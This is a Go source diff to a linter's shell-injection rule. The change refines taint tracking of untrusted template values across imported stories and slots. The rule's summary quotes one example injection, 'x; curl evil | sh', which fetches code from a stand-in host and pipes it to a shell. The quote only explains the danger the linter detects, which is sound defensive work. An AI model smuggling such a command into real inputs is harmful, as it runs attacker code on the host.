@@ -2,6 +2,8 @@ package lint
 
 import (
 	"fmt"
+	"maps"
+	"slices"
 	"strconv"
 	"strings"
 
@@ -10,7 +12,7 @@ import (
 )
 
 var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
-	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked",
+	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value; a world key as the import fold scopes it, so a child's declared key is its own): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked. A slot with values: read in its own intent's arc is trusted (a run refuses any other value), unless an emit_intent gives it a template; an integer, number or boolean slot is not (its type is checked only under run --strict)",
 	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}
 
 // checkShellInjection warns at each untrusted read inside the line a
@@ -111,7 +113,7 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, sr
 		if said[r.text] {
 			continue
 		}
-		what := c.untrusted(r)
+		what := c.untrusted(r, site.EffectPlace)
 		if what == "" {
 			continue
 		}
@@ -128,16 +130,33 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, sr
 }
 
 // untrusted says where the value of an untrusted read comes from ("" for
-// a trusted one).
-func (c *checker) untrusted(r tplRead) string {
+// a trusted one). A world read is untrusted when the folded key it names
+// is, in any place the story takes in the folded tree (foldScope).
+func (c *checker) untrusted(r tplRead, p *story.EffectPlace) string {
+	if r.root == "slots" {
+		return c.slotTrust(p, r)
+	}
 	if r.root != "world" {
 		return untrustedRoots[r.root]
 	}
 	if c.src.taint == nil {
-		c.src.taint = treeTaint(c.st)
+		c.src.taint = treeTaint(c.src, c.st)
 	}
-	if t, ok := c.src.taint.lookup(r.key); ok {
-		return t.String()
+	tw := c.src.taint
+	for _, sc := range tw.scopes[c.st] {
+		if t, ok := tw.keys[sc.readKey(r)]; ok {
+			return t.String()
+		}
+	}
+	if tw.partial { // a tree the fold refuses, not walked whole: by name
+		if tw.names == nil {
+			tw.names = slices.Sorted(maps.Keys(tw.keys))
+		}
+		for _, k := range tw.names {
+			if k == r.key || strings.HasSuffix(k, "__"+r.key) {
+				return tw.keys[k].String()
+			}
+		}
 	}
 	return ""
 }
@@ -177,25 +196,16 @@ func (t taint) String() string {
 	return t.why + " (" + t.origin + ")"
 }
 
-// taintedWorld is the world keys of an import tree that may hold an
-// untrusted value, and the tree's import aliases.
+// taintedWorld is the folded world keys of an import tree that may hold
+// an untrusted value, and the places of its stories in the folded tree.
 type taintedWorld struct {
-	keys    map[string]taint
-	aliases map[string]bool
-}
-
-// lookup finds key, or the child key a lifted <alias>__K name stands for.
-func (tw *taintedWorld) lookup(key string) (taint, bool) {
-	for {
-		if t, ok := tw.keys[key]; ok {
-			return t, true
-		}
-		alias, rest, ok := strings.Cut(key, "__")
-		if !ok || !tw.aliases[alias] {
-			return taint{}, false
-		}
-		key = rest
-	}
+	keys   map[string]taint
+	scopes map[*story.Story][]*foldScope
+	// partial: the tree folds past story.MaxFoldImports and its places
+	// were not all listed; a read then matches a tainted key by its name
+	// (names: the keys, sorted once)
+	partial bool
+	names   []string
 }
 
 // engineTainted are the world keys the engine sets from a call's answer
@@ -206,98 +216,163 @@ var engineTainted = map[string]string{
 	"last_job_result": "set by the engine to a background job's result",
 }
 
-// taintWrite is one set:, world_in: or exit set: of a key with the
-// template reads of its value.
+// taintWrite is one set:, world_in: or exit set: of a folded key with
+// the template reads of its value and the folded keys those name.
 type taintWrite struct {
 	key   string
 	reads []tplRead
-	pos   story.Pos
+	keys  []string // reads[i]'s folded key (root world)
+	// trusted: reads[i] (root slots) is an enum slot's value (slotTrust)
+	trusted []bool
+	pos     story.Pos
 }
 
 // runScalarData are host.run result fields that hold no text a command
 // controls (a bool or an int).
 var runScalarData = map[string]bool{"exit_code": true, "ok": true, "timed_out": true, "stdout_truncated": true}
 
-// treeTaint works out the untrusted world keys of st's import tree: the
-// keys the engine sets from a call's answer, every bind: target of a call,
-// then, to a fixed point, every key a set:,
-// world_in: or exit set: writes from an untrusted read.
-func treeTaint(st *story.Story) *taintedWorld {
+// treeTaint works out the untrusted folded world keys of st's import
+// tree: the keys the engine sets from a call's answer, every bind: target
+// of a call, then, to a fixed point, every key a set:, world_in: or exit
+// set: writes from an untrusted read. Keys are the fold's (foldScope): a
+// child's world.x is <alias>__x where it declares x, and the importer's x
+// where it does not, so taint flows exactly where the run shares a key.
+func treeTaint(src *sources, st *story.Story) *taintedWorld {
 	top := st
 	for top.Importer() != nil {
 		top = top.Importer()
 	}
-	tw := &taintedWorld{keys: map[string]taint{}, aliases: map[string]bool{}}
+	scopes, complete := foldScopes(top)
+	b := &taintBuilder{src: src, emits: src.slotEmits(top),
+		tw: &taintedWorld{keys: map[string]taint{}, scopes: scopes, partial: !complete}}
 	for k, why := range engineTainted {
-		tw.keys[k] = taint{why: why}
-	}
-	var writes []taintWrite
-	write := func(key string, v any, p story.Pos) {
-		var reads []tplRead
-		walkStrings(v, "", func(_, s string) {
-			if strings.Contains(s, "{") {
-				reads = append(reads, templateReads(s)...)
-			}
-		})
-		if k := worldKeyOf(key); k != "" && len(reads) > 0 {
-			writes = append(writes, taintWrite{k, reads, p})
-		}
+		b.tw.keys[k] = taint{why: why}
 	}
 	for _, s := range append([]*story.Story{top}, top.Children()...) {
-		storyEffects(s, func(p *story.EffectPlace, _ bool) {
-			e := p.Effect
-			for _, kv := range e.Bind() {
-				k := worldKeyOf(kv.Key)
-				if v, _ := kv.Value.(string); k == "" || e.Invoke == "host.run" && runScalarData[v] {
-					continue
-				}
-				if _, ok := tw.keys[k]; !ok {
-					tw.keys[k] = taint{why: fmt.Sprintf("bound from %s at %s", cmpOr(e.Invoke, "a call"), posText(kv.Pos))}
-				}
-			}
-			for _, kv := range e.Set {
-				write(kv.Key, kv.Value, kv.Pos)
-			}
-		})
-		for _, alias := range s.ImportOrder {
-			tw.aliases[alias] = true
-			im := s.Imports[alias]
-			for _, kv := range im.WorldIn {
-				write(kv.Key, kv.Value, kv.Pos)
-				write(alias+"__"+kv.Key, kv.Value, kv.Pos)
-			}
-			for _, en := range sortedMapKeys(im.Exits) {
-				for _, kv := range im.Exits[en].Set {
-					write(kv.Key, kv.Value, kv.Pos)
-				}
-			}
-		}
+		b.story(s)
 	}
 	// each round taints at least one more key, or is the last
 	for changed := true; changed; {
 		changed = false
-		for _, w := range writes {
-			if _, ok := tw.keys[w.key]; ok {
+		for _, w := range b.writes {
+			if _, ok := b.tw.keys[w.key]; ok {
 				continue
 			}
-			if t, ok := tw.derived(w); ok {
-				tw.keys[w.key] = t
+			if t, ok := b.tw.derived(w); ok {
+				b.tw.keys[w.key] = t
 				changed = true
 			}
 		}
 	}
-	return tw
+	return b.tw
+}
+
+// taintBuilder gathers treeTaint's binds and writes, story by story.
+type taintBuilder struct {
+	src    *sources
+	emits  map[string][]emitSlot
+	tw     *taintedWorld
+	writes []taintWrite
+}
+
+// story adds the binds and writes of s in each of its places: its
+// effects', its imports' world_in: and exits' set:.
+func (b *taintBuilder) story(s *story.Story) {
+	scopes := b.tw.scopes[s]
+	storyEffects(b.src, s, func(p *story.EffectPlace, _ bool, over string) {
+		e := p.Effect
+		sets := make([][]tplRead, len(e.Set))
+		for i, kv := range e.Set {
+			sets[i] = valueReads(kv.Value)
+		}
+		for _, sc := range scopes {
+			if over != "" { // an overrides: state runs in the child's scope
+				if sc = sc.child(over, b.tw.scopes); sc == nil {
+					continue
+				}
+			}
+			b.binds(sc, e)
+			for i, kv := range e.Set {
+				b.write(sc, p, kv.Key, sets[i], kv.Pos)
+			}
+		}
+	})
+	for _, alias := range s.ImportOrder {
+		im := s.Imports[alias]
+		for _, kv := range im.WorldIn {
+			reads := valueReads(kv.Value)
+			for _, sc := range scopes {
+				b.write(sc, nil, alias+"__"+kv.Key, reads, kv.Pos)
+			}
+		}
+		for _, en := range sortedMapKeys(im.Exits) {
+			for _, kv := range im.Exits[en].Set {
+				reads := valueReads(kv.Value)
+				for _, sc := range scopes {
+					b.write(sc, nil, kv.Key, reads, kv.Pos)
+				}
+			}
+		}
+	}
+}
+
+// binds taints, in scope sc, every bind: target of e but a host.run
+// field that holds no text.
+func (b *taintBuilder) binds(sc *foldScope, e *story.Effect) {
+	for _, kv := range e.Bind() {
+		k := worldKeyOf(kv.Key)
+		if v, _ := kv.Value.(string); k == "" || e.Invoke == "host.run" && runScalarData[v] {
+			continue
+		}
+		if _, ok := b.tw.keys[sc.key(k)]; !ok {
+			b.tw.keys[sc.key(k)] = taint{why: fmt.Sprintf("bound from %s at %s", cmpOr(e.Invoke, "a call"), posText(kv.Pos))}
+		}
+	}
+}
+
+// write records a write of key in scope sc from a value with reads
+// (place: the effect's, nil for world_in: and exit set:, whose slots are
+// not known).
+func (b *taintBuilder) write(sc *foldScope, place *story.EffectPlace, key string, reads []tplRead, p story.Pos) {
+	k := worldKeyOf(key)
+	if k == "" || len(reads) == 0 {
+		return
+	}
+	keys, trusted := make([]string, len(reads)), make([]bool, len(reads))
+	for i, r := range reads {
+		switch r.root {
+		case "world":
+			keys[i] = sc.readKey(r)
+		case "slots":
+			trusted[i] = slotTrust(b.src.intentDecls(sc.st), place, r, b.emits) == ""
+		}
+	}
+	b.writes = append(b.writes, taintWrite{sc.key(k), reads, keys, trusted, p})
+}
+
+// valueReads is the template reads of every string in a written value.
+func valueReads(v any) []tplRead {
+	var reads []tplRead
+	walkStrings(v, "", func(_, s string) {
+		if strings.Contains(s, "{") {
+			reads = append(reads, templateReads(s)...)
+		}
+	})
+	return reads
 }
 
 // derived is the taint of a write's key from its value's first untrusted
 // read, if it has one.
 func (tw *taintedWorld) derived(w taintWrite) (taint, bool) {
-	for _, r := range w.reads {
+	for i, r := range w.reads {
 		why := fmt.Sprintf("set from %s at %s", r.text, posText(w.pos))
 		if r.root != "world" {
+			if w.trusted[i] {
+				continue
+			}
 			return taint{why: why}, true
 		}
-		if src, ok := tw.lookup(r.key); ok {
+		if src, ok := tw.keys[w.keys[i]]; ok {
 			origin := src.origin
 			if origin == "" {
 				origin = "world." + r.key + " is " + src.why
@@ -338,6 +413,9 @@ type tplRead struct {
 	root string // slots, event, inbox, result or world
 	key  string // the first member (for root world, the key)
 	tag  string // the tag holding it, shortened for messages
+	// dotted: the key follows as .key, the form the import fold rewrites
+	// (world["k"] and world?.k it leaves as written)
+	dotted bool
 }
 
 // templateReads lists the reads of untrusted roots and of world keys by
@@ -458,7 +536,7 @@ func innerReads(out []tplRead, inner string, base int, tag string) []tplRead {
 			text, at = text+"."+m, at+n
 		}
 		if word == "world" && key != "" || untrustedRoots[word] != "" {
-			out = append(out, tplRead{off: base + k, text: text, root: word, key: key, tag: tag})
+			out = append(out, tplRead{off: base + k, text: text, root: word, key: key, tag: tag, dotted: strings.HasPrefix(inner[end:], ".")})
 		}
 		k = end
 	}
